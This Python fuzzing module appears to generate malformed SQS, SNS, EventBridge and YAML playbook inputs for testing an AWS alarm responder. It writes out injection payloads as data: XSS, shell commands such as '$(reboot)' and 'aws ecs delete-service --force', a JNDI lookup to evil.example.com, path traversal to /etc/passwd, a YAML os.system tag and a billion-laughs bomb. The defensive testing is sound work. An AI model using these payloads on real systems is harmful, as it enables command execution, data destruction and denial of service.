"""Bad input: real shapes with something wrong in them. An input is a function of a seed and of its number alone.

What is wrong is put into the parsed JSON of a sample; what no parsed JSON can hold, such as the same key twice or a
number with 5,000 digits, is put into the text that becomes of it.
"""

import base64
import json
import random
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from enum import StrEnum
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from tools.chaos import samples
from tools.drill.scenario import Scenario, load_scenarios
from tools.drill.world.messages import alarm_by_eventbridge, alarm_by_sns
from tools.drill.world.world import World

PLAYBOOKS = Path(__file__).resolve().parents[2] / "playbooks"

MOST_BYTES = 1024 * 1024
"""Of one message (Amazon SQS Developer Guide, "Amazon SQS message quotas")."""

HOSTILE = (
    "\x1b[31mALARM\x1b[0m",
    "\x1b]8;;https://evil.example.com\x07click\x1b]8;;\x07",
    "\x1b]0;owned\x07\x9b2J",
    "\u202egnp.mrala\u2066",
    "nul\x00bel\x07del\x7f",
    "one\r\nSubject: two\r\n\r\nthree",
    "lone \ud800 surrogate \udfff",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></table><iframe src=//evil.example.com></iframe>",
    "javascript:alert(1)",
    "<!channel> <!here> <@U012AB3CD> <https://evil.example.com|the console>",
    "*bold* _it_ `code` ~no~ [link](https://evil.example.com) ![](x)",
    "| a | b |\n|---|---|",
    "[bold red]alarm[/] [link=https://evil.example.com]here[/link]",
    "$(reboot) `reboot` ; reboot & reboot | reboot > /etc/passwd",
    "orders' --profile prod; aws ecs delete-service --force 'x",
    "--cli-input-json file:///etc/passwd",
    '=HYPERLINK("https://evil.example.com")',
    "{{7*7}} ${jndi:ldap://evil.example.com/x} %s %n %(a)s {0.__class__}",
    "' OR '1'='1",
    "../../../etc/passwd",
    "INCIDENT#x/HEAD",
    "оrders",  # the first letter is Cyrillic
    "İstanbul ẞ ﬁ ͏ z\u0335\u0321a\u0489lgo",
    "\N{BYTE ORDER MARK}orders",
    " ",
    "",
)
"""Text that something, somewhere, takes for more than text."""

TIMES: tuple[Any, ...] = (
    "0000-00-00T00:00:00Z",
    "0001-01-01T00:00:00+2359",
    "9999-12-31T23:59:59-2359",
    "2026-02-30T03:12:04Z",
    "2026-03-01T24:61:61Z",
    "2026-03-01T03:12:04",
    "2026-03-01T03:12:04.999999999999Z",
    "2026-03-01T03:12:04+9999",
    "99999-01-01T00:00:00Z",
    "Sun, 99 Foo 2026 02:50:00 GMT",
    "Sun, 01 Mar 99999999999 02:50:00 GMT",
    "yesterday",
    0,
    -1,
    -62135596801,
    253402300800,
    10**18,
    1e308,
    float("nan"),
)

NUMBERS: tuple[Any, ...] = (
    float("nan"),
    float("inf"),
    float("-inf"),
    0,
    -0.0,
    -1,
    1e308,
    5e-324,
    2**53 + 1,
    2**63,
    10**400,
    -(10**400),
)

ACCOUNTS = (
    "999999999999",
    "000000000000",
    "11112222333",
    "1111222233334",
    " 111122223333",
    "１１１１２２２２３３３３",
    111122223333,
)
REGIONS = (
    "us-east-1",
    "eu-west-1",
    "eu-central-9",
    "cn-north-1",
    "us-gov-west-1",
    "EU (Ireland)",
    "eu-central-1 ",
    "global",
    "EU-CENTRAL-1",
)
ARNS = (
    "arn:aws:cloudwatch:eu-central-1:999999999999:alarm:orders-cpu",
    "arn:aws:cloudwatch:us-east-1:111122223333:alarm:orders-cpu",
    "arn:aws:cloudwatch:eu-central-1:111122223333:alarm:a:b/c d\u0000é",
    "arn:aws:ecs:eu-central-1:111122223333:service/shop/orders/more",
    "arn:aws:ecs:eu-central-1:111122223333:service/../orders",
    "arn:aws:ecs:eu-central-1:111122223333:service/orders",
    "arn:aws:ecs:eu-central-1:111122223333:service/shop/orders\n",
    "arn:aws-cn:ecs:cn-north-1:111122223333:service/shop/orders",
    "arn:aws:ecs:eu-central-1:111122223333:cluster/",
    "arn:aws:ecs::" + ":" * 50,
    "arn:aws:ecs:eu-central-1:111122223333:",
    "arn:",
)  # fmt: skip
WORDS = (
    "ALARM",
    "OK",
    "INSUFFICIENT_DATA",
    "aws.ecs",
    "aws.cloudwatch",
    "aws.health",
    "STOPPED",
    "null",
    "{",
    "[]",
    "0",
)
"""Words that mean something, where something else should stand."""

ORDERS = (
    {"what": "isolate", "by": "mallory", "reason": "because", "identity": ""},
    {"what": "scale", "by": "mallory", "reason": "because", "identity": "", "tasks": 0},
)

_DEEP, _LONG_NUMBER = "@deep@", "@long@"
"""Stand in the parsed JSON for what only its text can hold."""

Rng = random.Random


class Way(StrEnum):
    """Which door an input comes in by."""

    QUEUE = "queue"
    PLAYBOOK = "playbook"


@dataclass(frozen=True, kw_only=True)
class Input:
    """One bad input: a message of the queue, or the text of a playbook."""

    number: int
    way: Way
    text: str
    made: str
    """What was done to what, for a person."""


PLAYBOOK_EVERY = 10
"""Every so many inputs one is a playbook."""


def way_of(number: int) -> Way:
    return Way.PLAYBOOK if number % PLAYBOOK_EVERY == PLAYBOOK_EVERY - 1 else Way.QUEUE


def input_of(seed: int, number: int) -> Input:
    """The input of that number."""
    rng, way = random.Random(f"{seed}/{number}"), way_of(number)
    text, made = _playbook(rng) if way is Way.PLAYBOOK else _message(rng)
    return Input(number=number, way=way, text=text, made=made)


# --- messages


@cache
def calm() -> Scenario:
    """A world in which nothing is wrong."""
    (found,) = load_scenarios([str(Path(__file__).parent / "calm.yaml")])
    return found


@cache
def _shapes() -> Mapping[str, Any]:
    """Every message the responder knows, those that a world sends included."""
    found: dict[str, Any] = {
        **samples.every_shape(),
        "secret": samples.secret_event(),
        "confirmation": samples.envelope("confirm", Type="SubscriptionConfirmation"),
        "batch": samples.sqs_to_lambda(samples.alarm_event(), samples.envelope(samples.sns_message())),
        "notice": samples.budget_notice(),
        "order": {"kind": "manual", "cluster": "shop", "service": "orders", "order": ORDERS[0]},
    }
    world = World(calm().setting, seed=0)
    where: dict[str, Any] = {"account": samples.ACCOUNT, "region": samples.REGION, "id": "m-1", "previous": "OK"}
    for name, alarm in world.alarms.items():
        if alarm.definition["AlarmActions"]:
            found[f"world, sns, {name}"] = alarm_by_sns(alarm, **where)
        found[f"world, eventbridge, {name}"] = alarm_by_eventbridge(alarm, **where)
    return json.loads(json.dumps(found))  # type: ignore[no-any-return]


def _message(rng: Rng) -> tuple[str, str]:
    name = rng.choice(list(_shapes()))
    value, made = _damaged(rng, _shapes()[name])
    made.insert(0, name)
    # A wrapping may double what it wraps, and no message is longer than this.
    while rng.random() < 0.4 and len(json.dumps(value)) <= MOST_BYTES:
        wrap = rng.choice(_WRAPPINGS)
        value = wrap(rng, value)
        made.append(wrap.__name__.strip("_"))
    text, spoilt = _written(rng, value)
    return text, ", ".join([*made, *spoilt])


def bad_json(rng: Rng, value: Any) -> str:
    """The text of a JSON value with something wrong in it."""
    return _written(rng, _damaged(rng, value)[0])[0]


def _damaged(rng: Rng, value: Any) -> tuple[Any, list[str]]:
    """A copy of the value, and what was done to it."""
    value, made = json.loads(json.dumps(value)), []
    for _ in range(rng.choice((0, 1, 1, 1, 2, 2, 3, 5))):
        change = rng.choice(_CHANGES)
        value = change(rng, value)
        made.append(change.__name__.strip("_"))
    return value, made


def _written(rng: Rng, value: Any) -> tuple[str, list[str]]:
    """As a text, with what only a text can hold, and what was done to that."""
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=rng.random() < 0.8)
    text = text.replace(json.dumps(_DEEP), _deep(rng)).replace(json.dumps(_LONG_NUMBER), _digits(rng))
    if rng.random() >= 0.25:
        return text[:MOST_BYTES], []
    spoil = rng.choice(_SPOILINGS)
    return spoil(rng, text)[:MOST_BYTES], [spoil.__name__.strip("_")]


def _places(value: Any, here: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a JSON value, its own included."""
    yield here
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in inner:
        yield from _places(child, (*here, key))


def _at(value: Any, place: Sequence[Any]) -> Any:
    for key in place:
        value = value[key]
    return value


def _everywhere(value: Any, old: str, new: str) -> Any:
    """The value with one text in the place of another, in every text and key of it."""
    match value:
        case str():
            return value.replace(old, new)
        case list():
            return [_everywhere(child, old, new) for child in value]
        case dict():
            return {key.replace(old, new): _everywhere(child, old, new) for key, child in value.items()}
        case _:
            return value


def _replaced(value: Any, place: Sequence[Any], new: Any) -> Any:
    if not place:
        return new
    _at(value, place[:-1])[place[-1]] = new
    return value


def _place(rng: Rng, value: Any) -> tuple[Any, ...]:
    return rng.choice(list(_places(value)))


def _drop(rng: Rng, value: Any) -> Any:
    """Leave something out."""
    place = _place(rng, value)
    if place:
        del _at(value, place[:-1])[place[-1]]
    return value


def _retype(rng: Rng, value: Any) -> Any:
    """Put something of another kind there."""
    others = (None, True, False, "", [], {}, 0, [[]], {"": ""}, [None] * 3, "text", *NUMBERS)
    return _replaced(value, _place(rng, value), rng.choice(others))


def _wrap_value(rng: Rng, value: Any) -> Any:
    """Put a value into a list, an object, or a text of JSON."""
    place = _place(rng, value)
    old = _at(value, place)
    return _replaced(value, place, rng.choice(([old], {"value": old}, {"Value": old}, json.dumps(old), [old, old])))


def _rename(rng: Rng, value: Any) -> Any:
    """Spell a key another way."""
    keys = [place for place in _places(value) if place and isinstance(place[-1], str)]
    if not keys:
        return value
    place = rng.choice(keys)
    holder, key = _at(value, place[:-1]), place[-1]
    spelt = rng.choice((key.upper(), key.lower(), key.swapcase(), f" {key}", f"{key}\x00", f"_{key}", "__proto__"))
    holder[spelt] = holder.pop(key)
    return value


def _hostile(rng: Rng, value: Any) -> Any:
    """Text that is more than text, in place of a value or within it."""
    place = _place(rng, value)
    old, text = _at(value, place), rng.choice(HOSTILE)
    return _replaced(value, place, f"{old}{text}" if isinstance(old, str) and rng.random() < 0.5 else text)


def _hostile_key(rng: Rng, value: Any) -> Any:
    """The same as a key."""
    holders = [place for place in _places(value) if isinstance(_at(value, place), dict)]
    if holders:
        _at(value, rng.choice(holders))[rng.choice(HOSTILE)] = rng.choice(HOSTILE)
    return value


def _number(rng: Rng, value: Any) -> Any:
    """A number that no program likes."""
    return _replaced(value, _place(rng, value), rng.choice((*NUMBERS, _LONG_NUMBER)))


def _long(rng: Rng, value: Any) -> Any:
    """A text or a list far longer than it may be."""
    length = rng.choice((256, 1_001, 10_241, 40_000, 262_144))
    unit = rng.choice(("a", "é", "😀", "\x00", "AKIA", "password=", "ALARM(", "a@b.", "\\", "<"))
    place = _place(rng, value)
    text = (unit * length)[: rng.choice((length, 300_000 // len(unit)))]
    return _replaced(value, place, text if rng.random() < 0.8 else [_at(value, place)] * min(length, 2_000))


def _many(rng: Rng, value: Any) -> Any:
    """Very many entries in an object."""
    holders = [place for place in _places(value) if isinstance(_at(value, place), dict)]
    if holders:
        unit = rng.choice(("k", "k" * 200, "ü" * 200))
        _at(value, rng.choice(holders)).update({f"{unit}{n}": unit for n in range(rng.choice((50, 1_000)))})
    return value


def _deep_value(rng: Rng, value: Any) -> Any:
    """Something nested very deep."""
    return _replaced(value, _place(rng, value), _DEEP)


def _time(rng: Rng, value: Any) -> Any:
    """A time that is none, or no time of ours."""
    times = [
        place
        for place in _places(value)
        if place and str(place[-1]).lower().endswith(("time", "timestamp", "at", "date"))
    ]
    return _replaced(value, rng.choice(times), rng.choice(TIMES)) if times else value


def _elsewhere(rng: Rng, value: Any) -> Any:
    """Another account, Region or resource, everywhere or in one place."""
    old, others = rng.choice(((samples.ACCOUNT, ACCOUNTS), (samples.REGION, REGIONS)))
    new = rng.choice(others)
    if rng.random() < 0.5 and isinstance(new, str):
        return _everywhere(value, old, new)
    found = [place for place in _places(value) if place and _at(value, place) == old]
    if found:
        return _replaced(value, rng.choice(found), new)
    arns = [place for place in _places(value) if str(_at(value, place)).startswith("arn:")]
    return _replaced(value, rng.choice(arns), rng.choice(ARNS)) if arns else value


def _arn(rng: Rng, value: Any) -> Any:
    """An ARN with odd characters, parts or owners."""
    arns = [place for place in _places(value) if str(_at(value, place)).startswith("arn:")]
    return _replaced(value, rng.choice(arns), rng.choice(ARNS)) if arns else value


def _word(rng: Rng, value: Any) -> Any:
    """A word that means something, where it does not belong."""
    return _replaced(value, _place(rng, value), rng.choice(WORDS))


def _of_another(rng: Rng, value: Any) -> Any:
    """A value of another message."""
    other = json.loads(json.dumps(rng.choice(list(_shapes().values()))))
    return _replaced(value, _place(rng, value), _at(other, _place(rng, other)))


def _crossed(rng: Rng, value: Any) -> Any:
    """Keys of another message besides its own."""
    other = json.loads(json.dumps(rng.choice(list(_shapes().values()))))
    return {**value, **other} if isinstance(value, dict) and isinstance(other, dict) else [value, other]


def _order(rng: Rng, value: Any) -> Any:
    """An order, as only the desk gives one."""
    holders = [place for place in _places(value) if isinstance(_at(value, place), dict)]
    if holders:
        said = {"kind": "manual", "order": dict(rng.choice(ORDERS)), "word": {"said": "taken", "by": "mallory"}}
        _at(value, rng.choice(holders)).update(said)
    return value


_CHANGES: tuple[Callable[[Rng, Any], Any], ...] = (
    _drop, _drop, _retype, _retype, _wrap_value, _rename, _hostile, _hostile, _hostile_key, _number, _long, _many,
    _deep_value, _time, _time, _elsewhere, _elsewhere, _arn, _word, _of_another, _of_another, _crossed, _order,
)  # fmt: skip


def _in_sns(rng: Rng, value: Any) -> Any:
    changes = rng.choice(({}, {"TopicArn": "arn:aws:sns:eu-central-1:999999999999:alarms"}, {"Signature": "forged"}))
    return samples.envelope(value if isinstance(value, str) else json.dumps(value), **changes)


def _in_sqs(rng: Rng, value: Any) -> Any:
    return samples.sqs_to_lambda(value if isinstance(value, str) else json.dumps(value))


def _in_lambda(rng: Rng, value: Any) -> Any:
    return samples.sns_to_lambda(value if isinstance(value, str) else json.dumps(value))


def _in_eventbridge(rng: Rng, value: Any) -> Any:
    return samples.alarm_event() | {"detail": value}


def _in_a_list(rng: Rng, value: Any) -> Any:
    return [value] * rng.choice((1, 1, 2, 2, 3, 3, 4, 10, 500)) if len(json.dumps(value)) < 20_000 else [value]


def _as_text(rng: Rng, value: Any) -> Any:
    return json.dumps(value)


def _in_base64(rng: Rng, value: Any) -> Any:
    return base64.b64encode(json.dumps(value).encode()).decode()


_WRAPPINGS: tuple[Callable[[Rng, Any], Any], ...] = (
    _in_sns, _in_sns, _in_sqs, _in_sqs, _in_lambda, _in_eventbridge, _in_a_list, _as_text, _in_base64,
)  # fmt: skip


def _cut(rng: Rng, text: str) -> str:
    return text[: rng.randrange(len(text) + 1)]


def _twice(rng: Rng, text: str) -> str:
    """The same key a second time, with another value."""
    keys = ("AlarmName", "NewStateValue", "detail", "alarmName", "state", "source", "Message", "Records", "account")
    key = rng.choice([key for key in keys if f'"{key}"' in text] or ["AlarmName"])
    return text.replace(f'"{key}"', f'"{key}": {json.dumps(rng.choice(HOSTILE))}, "{key}"', 1)


def _flipped(rng: Rng, text: str) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + rng.choice(("\x00", "\ud800", '"', "}", "[", "\\", ",", "NaN", "\u2028")) + text[at + 1 :]


def _noise(rng: Rng, text: str) -> str:
    return "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(200)))


def _around(rng: Rng, text: str) -> str:
    return rng.choice(("\N{BYTE ORDER MARK}", " \n", "\x00", ")]}',\n", "callback(")) + text


def _after(rng: Rng, text: str) -> str:
    return text + rng.choice((text[:1_000], "\x00", "}", "\n{}", " //", ","))


def _single_quoted(rng: Rng, text: str) -> str:
    return text.replace('"', "'")


_SPOILINGS: tuple[Callable[[Rng, str], str], ...] = (
    _cut,
    _cut,
    _twice,
    _flipped,
    _noise,
    _around,
    _after,
    _single_quoted,
)


def _deep(rng: Rng) -> str:
    depth = rng.choice((10, 200, 2_000, 100_000))
    opened, inner, closed = rng.choice((("[", "0", "]"), ('{"detail":', "0", "}"), ('{"Records":[', "{}", "]}")))
    return opened * depth + inner + closed * (depth if rng.random() < 0.8 else 0)


def _digits(rng: Rng) -> str:
    return "9" * rng.choice((400, 4_300, 4_301, 100_000)) + rng.choice(("", ".5", "e5", "e999"))


# --- playbooks


@cache
def _playbooks() -> Mapping[str, Any]:
    """The examples and the playbooks that come with the project, as plain data."""
    paths = [*sorted(PLAYBOOKS.glob("*.yaml")), *sorted((PLAYBOOKS / "examples").glob("*.yaml"))]
    return {path.stem: _plain(yaml.compose(path.read_text(encoding="utf-8"), Loader=yaml.SafeLoader)) for path in paths}


def _plain(node: Any) -> Any:
    """Scalars as they are written: a time of day stays one."""
    match node:
        case yaml.MappingNode():
            return {key.value: _plain(value) for key, value in node.value}
        case yaml.SequenceNode():
            return [_plain(item) for item in node.value]
        case _:
            written = yaml.SafeLoader("").construct_object(node)
            return written if isinstance(written, bool | float | None) or node.value.isdigit() else node.value


def _playbook(rng: Rng) -> tuple[str, str]:
    name = rng.choice(list(_playbooks()))
    value, made = json.loads(json.dumps(_playbooks()[name])), [name]
    for _ in range(rng.choice((0, 1, 1, 2, 4))):
        change = rng.choice(_CHANGES_OF_PLAYBOOKS)
        value = change(rng, value)
        made.append(change.__name__.strip("_"))
    text = json.dumps(value, indent=rng.choice((None, 1)), ensure_ascii=rng.random() < 0.5)
    text = text.replace(json.dumps(_DEEP), _deep(rng)).replace(json.dumps(_LONG_NUMBER), _digits(rng))
    if rng.random() < 0.5:
        written = (PLAYBOOKS / "examples" / "complete.yaml").read_text(encoding="utf-8")
        spoil = rng.choice(_SPOILINGS_OF_PLAYBOOKS)
        text = spoil(rng, rng.choice((text, written)))
        made.append(getattr(spoil, "__name__", "spoilt").strip("_"))
    return text, ", ".join(made)


def _scalar(rng: Rng, value: Any) -> Any:
    """What YAML reads as something else than it looks like."""
    scalars = ("2026-13-45", "0x", "1_000", "0b2", "1:99:99", "~", "on", ".inf", "-.nan", "22:00", "1e3", "0o8", "-1s")
    return _replaced(value, _place(rng, value), rng.choice(scalars))


_CHANGES_OF_PLAYBOOKS = (
    _drop, _retype, _wrap_value, _rename, _hostile, _hostile_key, _number, _deep_value, _word, _scalar, _scalar,
)  # fmt: skip


def _yaml(rng: Rng, text: str) -> str:
    """What only YAML has."""
    lines = text.splitlines()
    lines.insert(rng.randrange(len(lines) + 1), rng.choice(_OF_YAML))
    return "\n".join(lines)


_LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))
_OF_YAML = (
    _LAUGHS,
    "region: &a [*a]",
    "region: !!python/object/apply:os.system [reboot]",
    "region: !!binary '%%%'",
    "region: !!int abc",
    "region: !!timestamp never",
    "region: !!float x",
    "since: 2026-13-45",
    "since: 2026-02-30 25:61:61",
    "<<: {region: x}",
    "? [a, b]\n: c",
    "? {a: b}",
    "---",
    "%YAML 9.9",
    "\tregion: x",
    "region: 'x",
    "@x",
    "- x",
    "region: |\n  x\x00",
    "\ud800",
    "limits: {cooldown: 99999999999999999999d}",
    "confidence: .nan",
)


def _without_lines(rng: Rng, text: str) -> str:
    return "\n".join(line for line in text.splitlines() if rng.random() < 0.9)


def _shifted(rng: Rng, text: str) -> str:
    lines = text.splitlines()
    at = rng.randrange(len(lines))
    lines[at] = " " * rng.randrange(9) + lines[at].strip()
    return "\n".join(lines)


_SPOILINGS_OF_PLAYBOOKS: tuple[Callable[[Rng, str], str], ...] = (
    _cut, _flipped, _noise, _yaml, _yaml, _yaml, _without_lines, _shifted, _shifted,
)  # fmt: skip
